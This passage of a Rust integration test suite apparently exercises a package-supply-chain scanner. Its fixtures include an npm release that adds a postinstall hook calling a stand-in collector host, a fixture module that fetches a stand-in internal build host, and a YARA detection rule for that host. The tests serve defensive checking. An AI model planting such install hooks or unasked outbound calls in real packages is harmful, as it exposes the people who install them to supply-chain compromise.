            r#"{{"name": "app", "lockfileVersion": 3, "packages": {{
  "": {{"name": "app", "version": "1.0.0", "dependencies": {{"widget": "^1.4.0"}}}},
  "node_modules/widget": {{"version": "1.4.3", "resolved": "{registry}widget/-/widget-1.4.3.tgz", "integrity": "{}", "hasInstallScript": true}}
}}}}"#,
            sri(&after)
        ),
    );
    // `customs inspect` of the release makes the same comparison.
    let inspect = |target: &str| {
        customs_in(
            &["inspect", target, "--db", &db, "--format", "json"],
            dir.path(),
            &registry_env(registry.as_str(), dir.path()),
        )
    };
    let inspected = inspect("npm:widget@1.4.3");
    assert_eq!(inspected.status.code(), Some(0), "{}", stderr(&inspected));
    let comparison = &json(&inspected)["targets"][0]["comparison"];
    assert_eq!(comparison["previous_version"], "1.4.2", "{comparison}");
    assert_eq!(comparison["previous_artifact"], "widget-1.4.2.tgz");
    let rules: Vec<&str> = comparison["changes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|change| change["rule"].as_str().unwrap())
        .collect();
    assert_eq!(
        rules,
        ["new-endpoint", "new-install-script", "new-unasked-file"],
        "{comparison}"
    );
    // The first release has nothing before it, and says so.
    let first = inspect("npm:widget@1.4.2");
    let comparison = &json(&first)["targets"][0]["comparison"];
    assert_eq!(comparison["previous_version"], Value::Null);
    assert_eq!(comparison["note"], "no earlier release to compare with");
    assert_eq!(comparison["changes"], json!([]));

    let output = deep_scan(dir.path(), &db, &registry, &[]);
    let document = json(&output);
    let findings = document["findings"].as_array().unwrap();
    let change = findings
        .iter()
        .find(|f| f["code"] == "suspicious-change")
        .unwrap_or_else(|| panic!("{}\n{}", stderr(&output), document));
    assert_eq!(change["level"], "warn");
    assert_eq!(change["package"]["name"], "widget");
    let inspection = &change["inspection"];
    assert_eq!(inspection["artifact"], "widget-1.4.3.tgz");
    assert_eq!(
        inspection["reasons"][0],
        "compared with 1.4.2 (widget-1.4.2.tgz)"
    );
    let hits: Vec<String> = inspection["hits"]
        .as_array()
        .unwrap()
        .iter()
        .map(|hit| {
            format!(
                "{} {} {}",
                hit["rule"].as_str().unwrap(),
                hit["file"].as_str().unwrap(),
                hit["excerpt"].as_str().unwrap()
            )
        })
        .collect();
    assert_eq!(hits.len(), 3, "{hits:#?}");
    assert!(
        hits[0].starts_with("new-endpoint setup.js ")
            && hits[0].contains("metrics.fixture-collector.net"),
        "{hits:#?}"
    );
    assert_eq!(
        hits[1],
        "new-install-script package.json postinstall: node setup.js"
    );
    assert_eq!(hits[2], "new-unasked-file setup.js runs at install");
    let message = change["message"].as_str().unwrap();
    assert!(message.contains("adds to 1.4.2"), "{message}");
}

#[test]
fn deep_scans_run_the_rules_customs_toml_names() {
    let dir = tempfile::tempdir().unwrap();
    let db = common::advisory_db(dir.path());
    let tarball = tarball(&[
        (
            "package.json".to_owned(),
            br#"{"name": "reporter", "version": "2.0.0", "main": "index.js"}"#.to_vec(),
        ),
        (
            "index.js".to_owned(),
            b"module.exports = () => fetch('https://build.corp.example.invalid/metrics');\n"
                .to_vec(),
        ),
    ]);
    let (path, document) = packument(
        "reporter",
        &[("2.0.0", "2020-01-01T00:00:00Z", json!({}), "alice")],
    );
    let (registry, _) = fake_server(vec![
        (path, document.to_string().into_bytes()),
        ("/reporter/-/reporter-2.0.0.tgz".to_owned(), tarball.clone()),
    ]);
    let project = dir.path().join("project");
    write(
        &project,
        "package-lock.json",
        &format!(
            r#"{{"name": "app", "lockfileVersion": 3, "packages": {{
  "": {{"name": "app", "version": "1.0.0", "dependencies": {{"reporter": "*"}}}},
  "node_modules/reporter": {{"version": "2.0.0", "resolved": "{registry}reporter/-/reporter-2.0.0.tgz", "integrity": "{}"}}
}}}}"#,
            sri(&tarball)
        ),
    );
    write(
        &project,
        "customs.toml",
        "[inspect]\nrules = [\"security\"]\n",
    );
    let rule = |condition: &str| {
        format!(
            r#"rule internal_build_host {{
    meta:
        id = "internal-build-host"
        description = "our build host, which no dependency has reason to call"
        category = "threat"
        severity = "critical"
    strings:
        $host = "build.corp.example.invalid"
    condition:
        {condition}
}}
"#
        )
    };
    write(&project.join("security"), "internal.yar", &rule("$host"));
    let scan = || deep_scan(dir.path(), &db, &registry, &[]);
    let output = scan();
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    let document = json(&output);
    let finding = document["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["code"] == "malicious-code")
        .unwrap_or_else(|| panic!("{document}"));
    let rules: Vec<&str> = finding["inspection"]["hits"]
        .as_array()
        .unwrap()
        .iter()
        .map(|hit| hit["rule"].as_str().unwrap())
        .collect();
    assert!(rules.contains(&"internal-build-host"), "{rules:?}");

    // A rule that does not compile stops the scan, naming the file and the line.
    write(
        &project.join("security"),
        "internal.yar",
        &rule("$host and"),
    );
    let output = scan();
    assert_eq!(output.status.code(), Some(2));
    let message = stderr(&output);
    assert!(
        message.contains("internal.yar") && message.contains("line"),
        "{message}"
    );
}
